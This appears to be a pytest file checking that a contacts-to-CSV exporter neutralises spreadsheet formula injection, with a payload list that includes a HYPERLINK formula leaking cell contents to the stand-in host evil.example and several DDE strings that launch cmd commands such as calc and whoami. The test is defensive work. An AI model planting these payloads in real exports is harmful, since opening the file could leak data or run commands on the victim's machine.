import csv
import io

import pytest

from solution import export_contacts_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C whoami'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_in_contact_field_not_executable(payload):
    """CSV/formula injection: a contact types a spreadsheet formula into the notes
    field; when sales opens the export in Excel the cell would run a DDE command or
    exfiltrate neighbouring cells. No exported cell may start with = + - or @."""
    contacts = [{"name": "Mallory", "company": "Evil", "email": "m@evil.example", "notes": payload}]
    rows = list(csv.reader(io.StringIO(export_contacts_csv(contacts))))
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@")), f"formula cell exported: {cell!r}"
